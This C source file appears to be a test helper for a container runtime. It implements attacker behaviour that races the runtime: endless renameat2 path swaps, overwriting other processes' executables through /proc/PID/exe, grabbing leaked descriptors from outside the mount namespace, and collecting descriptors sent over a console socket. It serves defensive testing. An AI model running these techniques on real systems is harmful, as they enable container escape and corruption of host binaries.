/* What an attacker does as fast as it can, for the cases that race with a runtime. Static, so that it runs in any root.
 *
 *   attack swap A B            exchanges the two names for ever (renameat2)
 *   attack exe REPORT          for ever: opens what other processes run, and writes into it
 *   attack fds REPORT          for ever: takes descriptors of other processes that show files from outside this mount namespace
 *   attack console SOCKET      accepts connections, keeps whatever descriptors come
 *
 * Each "for ever" ends with its parent's case: the case kills it. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/stat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <unistd.h>

static void report(const char *file, const char *what, const char *path)
{
	FILE *out = fopen(file, "a");
	if (out == NULL)
		return;
	fprintf(out, "%s %s\n", what, path);
	fclose(out);
}

static void swap(const char *a, const char *b)
{
	for (unsigned long n = 0;; n++) {
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
		/* Two cores are shared with the runtime that is to be met in between. */
		if (n % 64 == 0)
			usleep(100);
	}
}

/* Calls `act` for every process but this one and its parent. */
static void each_process(void (*act)(const char *pid, const char *file), const char *file)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	if (proc == NULL)
		return;
	while ((entry = readdir(proc)) != NULL)
		if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
			act(entry->d_name, file);
	closedir(proc);
}

static void overwrite(const char *pid, const char *file)
{
	char path[64], goal[512] = "";
	struct stat st;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* Programs of the image itself are no prize: they are what can be looked up by the name that the link shows. */
	ssize_t length = readlink(path, goal, sizeof goal - 1);
	struct stat inside;
	if (fstat(fd, &st) != 0 || length <= 0 ||
	    (stat(goal, &inside) == 0 && inside.st_dev == st.st_dev && inside.st_ino == st.st_ino)) {
		close(fd);
		return;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	report(file, "seen", goal);
	/* ETXTBSY as long as it runs: so again and again, also after its end. */
	for (int tries = 0; tries < 2000; tries++) {
		int out = open(path, O_WRONLY | O_CLOEXEC);
		if (out < 0) {
			if (errno != ETXTBSY)
				break;
			continue;
		}
		if (pwrite(out, "EVIL", 4, 0) == 4)
			report(file, "written", goal);
		close(out);
		break;
	}
	close(fd);
}

static unsigned long long mount_of(int fd)
{
	struct statx st;
	if (syscall(SYS_statx, fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &st) != 0)
		return 0;
	return st.stx_mnt_id;
}

static int is_own_mount(unsigned long long id)
{
	char line[4096];
	int found = 0;
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	if (mounts == NULL)
		return 1;
	while (!found && fgets(line, sizeof line, mounts) != NULL)
		found = strtoull(line, NULL, 10) == id;
	fclose(mounts);
	return found;
}

static void steal(const char *pid, const char *file)
{
	char directory[64];
	struct dirent *entry;
	snprintf(directory, sizeof directory, "/proc/%s/fd", pid);
	DIR *fds = opendir(directory);
	if (fds == NULL)
		return;
	while ((entry = readdir(fds)) != NULL) {
		char path[400], goal[512] = "";
		struct stat st;
		/* 0, 1 and 2 are what the caller gave to the container. */
		if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
		if (readlink(path, goal, sizeof goal - 1) <= 0 || goal[0] != '/' || strncmp(goal, "/memfd:", 7) == 0)
			continue;
		int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode)) && !is_own_mount(mount_of(fd)))
			report(file, "stolen", goal);
		close(fd);
	}
	closedir(fds);
}

static int console(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	strncpy(address.sun_path, path, sizeof address.sun_path - 1);
	if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 64) != 0)
		return 1;
	for (;;) {
		char data[4096], control[256];
		struct iovec part = { data, sizeof data };
		struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
		int fd = accept(listener, NULL, NULL);
		if (fd < 0)
			return 1;
		recvmsg(fd, &message, 0);
		close(fd);
	}
}

int main(int argc, char **argv)
{
  /* Whoever started it may have been killed: it does not go on for ever. */
  alarm(120);
	prctl(PR_SET_PDEATHSIG, 9);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		swap(argv[2], argv[3]);
	if (argc != 3)
		return 2;
	if (strcmp(argv[1], "console") == 0)
		return console(argv[2]);
	for (;;) {
		if (strcmp(argv[1], "exe") == 0)
			each_process(overwrite, argv[2]);
		else if (strcmp(argv[1], "fds") == 0)
			each_process(steal, argv[2]);
		else
			return 2;
	}
}
